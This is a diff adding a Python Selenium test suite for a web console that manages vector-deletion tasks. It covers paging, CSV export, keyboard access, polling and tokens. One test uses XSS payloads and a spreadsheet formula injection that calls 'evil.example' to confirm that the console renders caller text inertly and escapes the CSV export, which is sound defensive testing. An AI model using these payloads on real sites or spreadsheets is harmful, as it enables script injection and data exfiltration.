@@ -1,0 +1,506 @@
+"""Stories of the console. Each has a name that says what holds, and its own tasks."""
+
+import concurrent.futures
+import csv
+import json
+import os
+import pathlib
+import re
+import signal
+import time
+import urllib.error
+import urllib.parse
+import urllib.request
+
+from processes import free_port
+from proxy import API, Proxy
+from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
+
+WIDE, NARROW = (1440, 900), (360, 740)
+EXAMPLE = {"embedding_model_id": "embed-456", "task_id": "delete-xyz", "object_ids": ["obj-1", "obj-2"]}
+# `slow` is an index that takes its time.
+STORES = '{"slow": "s3vectors://demo/embed-456?objects_per_second=1", "*": "s3vectors://demo/{embedding_model_id}"}'
+# Every rule of axe, those of best practice among them.
+AXE = """
+    const {violations} = await axe.run(document, {resultTypes: ["violations"]});
+    return violations.map(({id, nodes}) => id + ": " + nodes.slice(0, 3).map(({html, failureSummary}) => html.slice(0, 200) + " " + failureSummary).join(" | "));
+"""
+# Kept from before the page's own scripts: what its policy has stopped.
+WATCH = "window.violations = []; addEventListener('securitypolicyviolation', e => violations.push(e.violatedDirective + ' ' + e.blockedURI));"
+
+
+class Story:
+    """A browser, the address of a runner, and what the stories do with them."""
+
+    def __init__(self, browser, report, processes, screenshots):
+        self.browser = browser
+        self.expect = report and report.expect
+        self.processes = processes
+        self.screenshots = screenshots
+        self.api = None
+
+    # ------------------------------------------------------------ the service
+
+    def start(self, *flags, port=0):
+        """Starts a runner, and returns its address."""
+        name = f"runner-{len(self.processes.started)}"
+        command = ["cargo", "run", "--locked", "--quiet", "--", "--port", str(port), *flags]
+        said = self.processes.start(name, command, lambda text: "Ready" in text)
+        self.api = re.search(r"^API (\S+)", said, re.M)[1]
+        return self.api
+
+    def stop(self):
+        """Stops the runner that was started last."""
+        process = self.processes.started.pop()
+        process.send_signal(signal.SIGINT)
+        process.wait(20)
+
+    def call(self, method, name, body=None, **query):
+        data = None if body is None else json.dumps(body).encode()
+        address = f"{self.api}{API}{name}?{urllib.parse.urlencode(query)}"
+        request = urllib.request.Request(address, data, {"Content-Type": "application/json"}, method=method)
+        with urllib.request.urlopen(request, timeout=20) as response:
+            return json.load(response)
+
+    def create(self, **fields):
+        return self.call("POST", "run", {**EXAMPLE, **fields})
+
+    def create_all(self, task_ids):
+        with concurrent.futures.ThreadPoolExecutor(8) as pool:
+            list(pool.map(lambda task_id: self.create(task_id=task_id), task_ids))
+
+    def prepare(self):
+        """Starts two services: one without a worker, for a thousand tasks, and one for most stories. What takes long begins here."""
+        self.crowd = self.start("--no-worker")
+        crowd = Story(self.browser, None, self.processes, self.screenshots)
+        crowd.api = self.crowd
+        pool = concurrent.futures.ThreadPoolExecutor(1)
+        self.created = pool.submit(crowd.create_all, [f"task-{number:04}" for number in range(1000)])
+        self.start()
+        ids = [f"obj-{number}" for number in range(901, 20_901)]
+        self.create(task_id="large", object_ids=ids, reason="Article 17, ticket 4711")
+
+    def ended(self, task_id):
+        """Waits until a task has ended."""
+        ends = ("done", "failed", "canceled")
+        return self.browser.wait(f"{task_id} ends", lambda: (task := self.call("GET", "info", task_id=task_id))["status"] in ends and task)
+
+    # ------------------------------------------------------------ the page
+
+    def open(self, query="", origin=None):
+        """Opens the console at an address, and waits for its content."""
+        self.browser.open(f"{origin or self.api}/{query}")
+        self.browser.wait("the page has content", self.has_content)
+
+    def has_content(self):
+        return self.seen("#rows tr") or self.seen("#items tr") or any(self.text(at) for at in ("#list-end", "#list-problem", "#task-problem", "#connection"))
+
+    def seen(self, selector):
+        return self.browser.run("return [...document.querySelectorAll(given[0])].filter(element => element.checkVisibility()).length", selector)
+
+    def text(self, selector):
+        return self.browser.run("return document.querySelector(given[0])?.textContent ?? ''", selector)
+
+    def shows(self, selector, text):
+        """Waits until an element has a text."""
+        return self.browser.wait(lambda: f"{selector} shows {text!r}, not {self.text(selector)!r}", lambda: text in self.text(selector))
+
+    def row(self, task_id):
+        """The texts of a task's row."""
+        script = "return [...document.querySelectorAll('#rows tr')].filter(row => row.querySelector('a').textContent === given[0]).map(row => row.innerText)"
+        return next(iter(self.browser.run(script, task_id)), None)
+
+    def press(self, *keys):
+        """Presses keys, wherever the focus is."""
+        for key in keys:
+            self.browser.driver.switch_to.active_element.send_keys(key)
+
+    def focus(self):
+        """What has the focus: its id, or its text."""
+        return self.browser.run("const {id, textContent} = document.activeElement; return id || textContent")
+
+    def tab_to(self, what):
+        """Presses the tabulator until something has the focus."""
+        passed = []
+        for _ in range(40):
+            self.press(Keys.TAB)
+            passed.append(self.focus())
+            if passed[-1] == what:
+                return
+        self.expect(f"the tabulator reaches {what}", False, passed)
+
+    def size(self, width, height):
+        self.browser.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": False})
+
+    def scheme(self, name):
+        feature = {"name": "prefers-color-scheme", "value": name}
+        self.browser.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [feature]})
+
+    def hide(self, is_hidden):
+        """Tells the page that nobody sees it, or that somebody does."""
+        self.browser.run("Object.defineProperty(document, 'hidden', {value: given[0], configurable: true}); document.dispatchEvent(new Event('visibilitychange'))", is_hidden)
+
+    def inspect(self, what):
+        """At both widths, in light and dark: no finding of axe, nothing to scroll to the side. Keeps a screenshot of each."""
+        if self.browser.run("return typeof axe") == "undefined":
+            self.browser.driver.execute_script(pathlib.Path(os.environ["AXE"]).read_text())
+        for width, height in (WIDE, NARROW):
+            self.size(width, height)
+            fits = self.browser.run("return document.documentElement.scrollWidth <= innerWidth")
+            self.expect(f"{what} at {width} px: nothing to scroll to the side", fits)
+            for scheme in ("light", "dark"):
+                self.scheme(scheme)
+                findings = self.browser.run(AXE)
+                self.expect(f"{what} at {width} px, {scheme}: no finding of axe", findings == [], findings)
+                self.browser.driver.save_screenshot(str(self.screenshots / f"{what.replace(' ', '-')}-{width}-{scheme}.png"))
+        self.size(*WIDE)
+        self.scheme("light")
+
+    def has_kept_its_policy(self):
+        """Nothing was stopped by the page's policy, and its scripts have logged no error."""
+        violations = self.browser.run("return window.violations")
+        self.expect("the policy of the page stopped nothing", violations == [], violations)
+        errors = [line for line in self.browser.log() if "Failed to load resource" not in line and "net::ERR" not in line]
+        self.expect("the page logged no error", errors == [], errors)
+
+    # ------------------------------------------------------------ the stories
+
+    def the_example_from_pending_to_done_while_the_server_goes_and_comes_back(self):
+        shared = self.api
+        data = self.processes.folder / "data"
+        port = free_port()
+        self.start("--data", str(data), "--no-worker", port=port)
+        self.open()
+        self.shows("#list-end", "No task yet")
+        self.inspect("an empty list")
+        self.browser.run("window.isSamePage = true")
+        self.create()
+        self.browser.wait("the new task is shown", lambda: self.row("delete-xyz"))
+        self.expect("a new task is pending", "pending" in self.row("delete-xyz"), self.row("delete-xyz"))
+        self.stop()
+        self.shows("#connection", "Cannot reach the server since")
+        self.expect("its row stays while the server is gone", "pending" in (self.row("delete-xyz") or ""))
+        self.inspect("the server gone")
+        self.start("--data", str(data), port=port)
+        self.browser.wait("the banner goes", lambda: not self.text("#connection"))
+        self.browser.one("#rows a").click()
+        self.shows("#task-title", "delete-xyz")
+        self.browser.one("#restart").click()
+        self.shows("#dialog-effect", "Its message goes onto the queue once more")
+        self.browser.one("#dialog-confirm").click()
+        self.shows("#summary", "done")
+        self.expect("its progress is in words", "1 deleted, 1 failed of 2" in self.text("#summary"), self.text("#summary"))
+        self.shows("#announcement", "The task is done")
+        self.browser.driver.back()
+        self.browser.wait("its row is done", lambda: "done" in (self.row("delete-xyz") or ""))
+        self.expect("the focus is on the task it was on", self.focus() == "delete-xyz", self.focus())
+        self.expect("the page was never loaded again", self.browser.run("return window.isSamePage") is True)
+        self.stop()
+        self.api = shared
+
+    def twenty_thousand_objects_page_by_page(self):
+        self.ended("large")
+        failed = [failure["object_id"] for failure in self.outcomes("large", "failed")]
+        self.open("?task=large")
+        self.shows("#range", f"1 to 1,000 of {len(failed):,}")
+        self.expect("the failures are shown first", self.objects() == failed[:1000], self.objects()[:3])
+        self.expect("why is shown", "ticket 4711" in self.text("#fields"), self.text("#fields"))
+        for page in (1, 2):
+            self.browser.one("#next").click()
+            self.shows("#range", f"{page},001 to {page + 1},000 of")
+        self.expect("the third page has the third thousand", self.objects() == failed[2000:3000], self.objects()[:3])
+        self.browser.one("#previous").click()
+        self.shows("#range", "1,001 to 2,000 of")
+        self.expect("the page before has the second thousand", self.objects() == failed[1000:2000], self.objects()[:3])
+        self.inspect("a task")
+        origin = {"origin": self.api, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
+        self.browser.driver.execute_cdp_cmd("Browser.grantPermissions", origin)
+        self.browser.one("#copy").click()
+        self.shows("#objects-note", "Copied 1,000 ids")
+        copied = self.browser.run("return navigator.clipboard.readText()")
+        self.expect("the ids of the page are copied", copied.split() == failed[1000:2000], copied[:100])
+        rows = list(csv.reader(self.download("csv", "large-failed.csv").splitlines()))
+        self.expect("the CSV has every failure", [row[0] for row in rows] == ["object_id", *failed], rows[:3])
+        lines = [json.loads(line) for line in self.download("jsonl", "large-failed.jsonl").splitlines()]
+        self.expect("the JSON Lines have every failure", [line["object_id"] for line in lines] == failed, lines[:3])
+        self.browser.one('#outcomes [data-outcome="deleted"]').click()
+        self.shows("#range", f" of {20_000 - len(failed):,}")
+        self.expect("the outcome is in the address", "outcome=deleted" in self.browser.driver.current_url, self.browser.driver.current_url)
+
+    def outcomes(self, task_id, outcome):
+        cursor, items = None, []
+        while True:
+            page = self.call("GET", "info", task_id=task_id, outcome=outcome, **({"cursor": cursor} if cursor else {}))
+            items += page["items"]
+            cursor = page["items_cursor"]
+            if not cursor:
+                return items
+
+    def objects(self):
+        return self.browser.run("return [...document.querySelectorAll('#items .id')].map(cell => cell.textContent)")
+
+    def download(self, button, name):
+        """Downloads a file, and returns its content with its line ends."""
+        self.browser.one(f"#{button}").click()
+        file = self.processes.folder / name
+        self.browser.wait(f"{name} is there", file.exists)
+        self.shows("#objects-note", "Downloaded")
+        return file.read_bytes().decode()
+
+    def no_text_of_a_caller_is_html(self):
+        task_id = "<img/src=x/onerror=window.isHurt=1>&lt;b&gt;"
+        objects = ["<script>window.isHurt=1</script>", '=HYPERLINK("http://evil.example/?"&A1,"x")', 'a "quoted", one', "-1+1"]
+        self.create(task_id=task_id, embedding_model_id="<b>nowhere</b>", object_ids=objects, reason="<svg/onload=window.isHurt=1>")
+        self.ended(task_id)
+        self.open()
+        self.browser.wait("its row is shown", lambda: self.row(task_id))
+        self.expect("the list shows the model as text", "<b>nowhere</b>" in self.row(task_id), self.row(task_id))
+        self.browser.one("#rows").find_element(By.LINK_TEXT, task_id).click()
+        self.shows("#range", "of 4")
+        self.expect("the title is the id as text", self.text("#task-title") == task_id, self.text("#task-title"))
+        self.expect("the reason is text", "<svg/onload" in self.text("#fields"), self.text("#fields"))
+        self.expect("the object ids are text", self.objects() == objects, self.objects())
+        made = self.browser.run("return document.querySelectorAll('main img, main b, main script, main a[href*=evil]').length")
+        self.expect("nothing of it is an element", made == 0, made)
+        self.expect("nothing of it has run", not self.browser.run("return window.isHurt"))
+        name = re.sub("[^A-Za-z0-9._-]+", "_", task_id)
+        text = self.download("csv", f"{name}-failed.csv")
+        rows = list(csv.reader(text.splitlines()))
+        guarded = [objects[0], "'" + objects[1], objects[2], "'" + objects[3]]
+        self.expect("a spreadsheet computes none of the ids", [row[0] for row in rows[1:]] == guarded, rows)
+        self.expect("the CSV has the line ends of RFC 4180", text.count("\r\n") == 5 == text.count("\n"), text)
+        self.expect("the page says so", "2 of them begin with" in self.text("#objects-note"), self.text("#objects-note"))
+        lines = self.download("jsonl", f"{name}-failed.jsonl").splitlines()
+        self.expect("the JSON Lines have the ids unchanged", [json.loads(line)["object_id"] for line in lines] == objects, lines)
+
+    def a_walk_by_keyboard_to_a_canceled_task(self):
+        self.create(task_id="walk", embedding_model_id="slow", object_ids=[f"obj-{number}" for number in range(100, 200)])
+        self.open()
+        self.browser.wait("its row is shown", lambda: self.row("walk"))
+        self.press(Keys.TAB)
+        self.expect("the first stop skips to the content", "Skip" in self.focus(), self.focus())
+        self.press(Keys.ENTER)
+        self.tab_to("walk")
+        self.press(Keys.ENTER)
+        self.shows("#summary", "processing")
+        self.expect("the focus is on the task's heading", self.focus() == "task-title", self.focus())
+        self.tab_to("cancel")
+        self.press(Keys.ENTER)
+        self.shows("#dialog-effect", "100 of its objects remain")
+        self.expect("the focus is in the dialog", self.focus() == "dialog-leave", self.focus())
+        self.inspect("a dialog")
+        self.press(Keys.ESCAPE)
+        self.browser.wait("the dialog is closed", lambda: not self.seen("#dialog"))
+        self.expect("the focus is back where it was", self.focus() == "cancel", self.focus())
+        self.press(Keys.ENTER)
+        self.browser.wait("the dialog is open", lambda: self.seen("#dialog"))
+        self.tab_to("dialog-confirm")
+        self.press(Keys.ENTER)
+        self.shows("#summary", "canceled")
+        self.browser.wait("the dialog is closed", lambda: not self.seen("#dialog"))
+        self.browser.wait("the focus goes to the heading, since the button is gone", lambda: self.focus() == "task-title")
+        self.expect("the service has canceled it", self.call("GET", "info", task_id="walk")["status"] == "canceled")
+
+    def a_restart_says_what_it_will_do_and_what_has_changed_meanwhile(self):
+        self.create(task_id="again", object_ids=["obj-5", "obj-6", "absent-1"])
+        self.ended("again")
+        self.open("?task=again")
+        self.shows("#summary", "done")
+        self.browser.one("#restart").click()
+        self.browser.wait("the dialog is open", lambda: self.seen("#dialog"))
+        self.expect("it says what is tried again", self.text("#dialog-effect") == "Tries the 1 object again that was not deleted. 2 stay deleted.", self.text("#dialog-effect"))
+        self.browser.one("[value=all]").click()
+        self.expect("it says what `all` does", "Tries all 3 objects again, the 2 deleted before among them" in self.text("#dialog-effect"), self.text("#dialog-effect"))
+        self.call("PUT", "restart", task_id="again")
+        self.ended("again")
+        self.browser.one("#dialog-confirm").click()
+        self.shows("#dialog-problem", "is now at attempt 2; the request named attempt 1. Nothing was changed, and the task was read again: it is done, at attempt 2.")
+        self.browser.one("#dialog-confirm").click()
+        self.browser.wait("the dialog is closed", lambda: not self.seen("#dialog"))
+        self.browser.wait("the task is at attempt 3", lambda: "Attempt3" in self.text("#fields") and "done" in self.text("#summary"))
+        self.expect("all were tried again", self.call("GET", "info", task_id="again")["progress"]["failed"] == 3)
+
+    def filters_are_in_the_address(self):
+        for name, model in (("here-1", "embed-456"), ("nowhere-1", "nowhere"), ("nowhere-2", "elsewhere")):
+            self.create(task_id=name, embedding_model_id=model)
+            self.ended(name)
+        self.open()
+        self.browser.wait("all are shown", lambda: self.row("here-1") and self.row("nowhere-1"))
+        self.browser.one('#statuses [data-status="failed"]').click()
+        self.browser.wait("only the failed ones are shown", lambda: self.row("nowhere-1") and not self.row("here-1"))
+        self.expect("the status is in the address", self.browser.driver.current_url.endswith("/?status=failed"), self.browser.driver.current_url)
+        self.browser.one("summary").click()
+        self.browser.one("[name=model]").send_keys("nowhere", Keys.ENTER)
+        self.browser.wait("only those of the model are shown", lambda: self.row("nowhere-1") and not self.row("nowhere-2"))
+        self.browser.driver.back()
+        self.browser.wait("Back takes the model away", lambda: self.row("nowhere-2"))
+        self.browser.driver.back()
+        self.browser.wait("Back takes the status away", lambda: self.row("here-1"))
+        self.open("?status=failed&since=2026-01-01T00:00:00Z&until=2026-01-02T00:00:00Z")
+        self.shows("#list-end", "No task has this status, this model and this time.")
+        self.open("?since=yesterday")
+        self.shows("#list-problem", "created_after")
+        self.create(task_id="leaves", embedding_model_id="slow", object_ids=[f"obj-{number}" for number in range(300, 400)])
+        self.open("?status=processing")
+        self.browser.wait("the task at work is shown", lambda: self.row("leaves"))
+        self.call("PUT", "cancel", task_id="leaves")
+        self.browser.wait("a canceled task leaves the list of those at work", lambda: not self.row("leaves"))
+        self.open("?status=failed")
+        self.browser.wait("the row is shown", lambda: self.row("nowhere-1"))
+        self.call("PUT", "restart", task_id="nowhere-1")
+        self.browser.wait("its attempt is current", lambda: "\t2" in (self.row("nowhere-1") or ""))
+
+    def what_lags_never_replaces_what_is_newer(self):
+        with Proxy(self.api) as proxy:
+            self.create(task_id="lagging", embedding_model_id="slow", object_ids=[f"obj-{number}" for number in range(200, 300)])
+            stale = self.browser.wait("it is processing", lambda: (page := self.call("GET", "list")) and page["tasks"][0]["status"] == "processing" and page)
+            proxy.change = lambda path, body: json.dumps(stale).encode() if path.startswith(f"{API}list") else body
+            self.open(origin=proxy.url)
+            self.browser.wait("its row is shown", lambda: "processing" in (self.row("lagging") or ""))
+            self.call("PUT", "cancel", task_id="lagging")
+            self.browser.wait("its row is canceled", lambda: "canceled" in self.row("lagging"))
+            shown = "window.shown = new Set(); new MutationObserver(() => [...document.querySelectorAll('#rows tr')].forEach(row => row.querySelector('a').textContent === 'lagging' && shown.add(row.querySelector('.status').textContent))).observe(document.querySelector('#rows'), {subtree: true, childList: true, characterData: true})"
+            self.browser.run(shown)
+            polled = len(self.lists(proxy))
+            self.browser.wait("the list is read twice more", lambda: len(self.lists(proxy)) >= polled + 2)
+            self.expect("it never went back", "canceled" in self.row("lagging") and "processing" not in self.browser.run("return [...shown]"), self.row("lagging"))
+
+    def lists(self, proxy):
+        return [path for _, path in proxy.calls if path.startswith(f"{API}list")]
+
+    def a_token_and_a_server_that_asks_to_wait(self):
+        with Proxy(self.api) as proxy:
+            proxy.token = "secret"
+            self.open(origin=proxy.url)
+            self.shows("#connection", "This console has another token")
+            self.browser.open(f"{proxy.url}/#token=secret")
+            self.browser.wait("the token lets the page in", lambda: self.seen("#rows tr"))
+            self.expect("the token is not in the address", "secret" not in self.browser.driver.current_url, self.browser.driver.current_url)
+            self.open(origin=proxy.url)
+            self.browser.wait("the page has kept the token", lambda: self.seen("#rows tr"))
+            proxy.refusals = [(429, {"Retry-After": "4"})]
+            self.shows("#connection", "Too many calls at once; try again (status 429")
+            refused = proxy.calls[-1][0]
+            self.browser.wait("the page tries again", lambda: not self.text("#connection"))
+            next_call = next(at for at, _ in proxy.calls if at > refused)
+            self.expect("it waits as long as it is told", next_call - refused >= 3.9, next_call - refused)
+            self.hide(True)
+            calls = len(proxy.calls)
+            time.sleep(4)  # longer than the page waits between two reads
+            self.expect("a page that nobody sees makes no call", len(proxy.calls) <= calls + 1, proxy.calls[calls:])
+            calls = len(proxy.calls)
+            self.hide(False)
+            self.browser.wait("it reads again at once", lambda: len(proxy.calls) > calls)
+
+    def a_thousand_tasks(self):
+        self.api = self.crowd
+        self.browser.wait("all are created", self.created.done)
+        with Proxy(self.api) as proxy:
+            self.open(origin=proxy.url)
+            self.browser.run("window.longest = 0; new PerformanceObserver(list => list.getEntries().forEach(({duration}) => longest = Math.max(longest, duration))).observe({type: 'longtask', buffered: true})")
+            self.browser.wait("all are shown", lambda: self.browser.run("scrollTo(0, document.body.scrollHeight)") or "1,000 tasks. There are no others." in self.text("#list-end"))
+            shown = self.browser.run("return [...document.querySelectorAll('#rows a')].map(link => link.textContent)")
+            self.expect("each is shown once", sorted(shown) == [f"task-{number:04}" for number in range(1000)], len(shown))
+            script = """
+                const link = document.querySelectorAll("#rows a")[given[0]];
+                link.scrollIntoView({block: "center"});
+                link.focus();
+                getSelection().selectAllChildren(link);
+                window.changes = [];
+                new MutationObserver(all => changes.push(...all)).observe(document.querySelector("#rows"), {childList: true});
+                return [link.getBoundingClientRect().top, link.textContent];
+            """
+            # Tasks of the last seconds are read again, since the list may lag.
+            self.browser.wait("the list has settled", lambda: not any("cursor=" in path for path in self.lists(proxy)[-2:]))
+            top, name = self.browser.run(script, 700)
+            calls = len(proxy.calls)
+            self.create(task_id="newest")
+            self.browser.wait("a new task is shown", lambda: self.row("newest"))
+            self.browser.wait("the list is read twice", lambda: len([path for _, path in proxy.calls[calls:] if "list?" in path]) >= 2)
+            reads = [path for _, path in proxy.calls[calls:]]
+            self.expect("the pages further down are not read again", not [path for path in reads if "cursor=" in path], reads)
+            self.expect("only what can be seen is read by itself", len({path for path in reads if "info?" in path}) < 40, len(reads))
+            first = self.browser.run("return document.querySelector('#rows a').textContent")
+            self.expect("a new task is one new row, at the top", first == "newest" and self.browser.run("return changes.length") == 1, first)
+            state = self.browser.run("return [document.activeElement.textContent, String(getSelection())]")
+            self.expect("the focus and the selection stay", state == [name, name], state)
+            moved = self.browser.run("return document.activeElement.getBoundingClientRect().top") - top
+            self.expect("what somebody reads does not move", abs(moved) < 1, moved)
+            self.hide(True)
+            self.create_all([f"late-{number:03}" for number in range(150)])
+            self.hide(False)
+            self.browser.wait("the newest tasks are shown", lambda: self.row("late-149"))
+            shown = self.browser.run("return [...document.querySelectorAll('#rows a')].map(link => link.textContent)")
+            listed = [task["id"] for task in self.call("GET", "list", limit=200)["tasks"]]
+            self.expect("more new tasks than a page has leave no gap", shown[:200] == listed and len(shown) == 1151, len(shown))
+            print(f"        longest task of the page's thread: {self.browser.run('return longest'):.0f} ms")
+            self.browser.driver.save_screenshot(str(self.screenshots / "a-thousand-tasks.png"))
+
+    def the_list_with_tasks(self):
+        self.open()
+        self.inspect("a list")
+
+
+STORIES = [
+    Story.the_example_from_pending_to_done_while_the_server_goes_and_comes_back,
+    Story.no_text_of_a_caller_is_html,
+    Story.a_walk_by_keyboard_to_a_canceled_task,
+    Story.a_restart_says_what_it_will_do_and_what_has_changed_meanwhile,
+    Story.filters_are_in_the_address,
+    Story.what_lags_never_replaces_what_is_newer,
+    Story.a_token_and_a_server_that_asks_to_wait,
+    Story.twenty_thousand_objects_page_by_page,
+    Story.the_list_with_tasks,
+    Story.a_thousand_tasks,
+]
+
+
+def test(browser, report, processes, screenshots, name):
+    """Runs the stories whose names contain `name`, on one service after another."""
+    os.environ["VECTOR_STORES"] = STORES
+    browser.driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": WATCH})
+    story = Story(browser, report, processes, screenshots)
+    story.prepare()
+    story.size(*WIDE)
+    story.open()
+    browser.log()
+    # Without this, the two checks of each story could not fail.
+    browser.run("document.body.setAttribute('style', 'color: red')")
+    report.expect("what the policy stops is noticed", browser.run("return violations.length") == 1 and browser.log() != [])
+    for tell in STORIES:
+        title = tell.__name__.replace("_", " ")
+        if name not in title:
+            continue
+        print(f"\n{title}", flush=True)
+        began = time.monotonic()
+        try:
+            tell(story)
+        except Exception as error:  # the next stories can still tell something
+            browser.driver.save_screenshot(str(screenshots / f"failed-{tell.__name__}.png"))
+            report.expect(title, False, f"{type(error).__name__}: {str(error).partition('Stacktrace')[0].strip()}")
+        story.has_kept_its_policy()
+        print(f"        {time.monotonic() - began:.1f} s", flush=True)
+
+
+def picture(browser, processes, file):
+    """Makes the picture of the README: a list with a task of each kind."""
+    os.environ["VECTOR_STORES"] = STORES
+    story = Story(browser, None, processes, file.parent)
+    story.start()
+    story.size(1200, 560)
+    for task_id, fields in {
+        "user-4711": {"object_ids": [f"obj-{number}" for number in range(3, 260)], "reason": "Article 17"},
+        "catalog-2026-10": {"object_ids": [f"obj-{number}" for number in range(260, 420)]},
+        "reindex-embed-457": {"embedding_model_id": "embed-457", "object_ids": [f"obj-{number}" for number in range(1, 41)]},
+        "delete-xyz": {},
+    }.items():
+        story.create(task_id=task_id, **fields)
+        story.ended(task_id)
+    story.create(task_id="import-rollback", embedding_model_id="slow", object_ids=[f"obj-{number}" for number in range(500, 600)])
+    story.call("PUT", "cancel", task_id="import-rollback")
+    story.create(task_id="tenant-18", embedding_model_id="slow", object_ids=[f"obj-{number}" for number in range(600, 990)])
+    file.parent.mkdir(parents=True, exist_ok=True)
+    story.open()
+    browser.wait("the last task is at work", lambda: "processing" in (story.row("tenant-18") or ""))
+    browser.driver.save_screenshot(str(file))
